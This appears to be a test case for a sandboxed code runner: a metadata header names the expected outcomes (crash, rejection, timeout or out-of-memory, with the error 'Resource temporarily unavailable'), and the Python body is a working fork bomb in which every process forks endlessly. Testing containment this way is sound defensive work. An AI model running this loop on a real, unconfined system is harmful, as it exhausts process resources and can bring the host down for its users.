# /// attack
# row = "1"
# aim = "Fork for ever, every child too."
# runtimes = ["docker"]
# verdicts = ["crashed", "rejected", "timed_out", "out_of_memory"]
# must_print = ["Resource temporarily unavailable"]
# wall_s = 4
# beside = true
# ///
import os
import time

children = 0
while True:
    try:
        if os.fork() == 0:
            children = 0
            continue
        children += 1
    except OSError as error:
        print("ATTACK", error.strerror, flush=True)
        time.sleep(0.2)
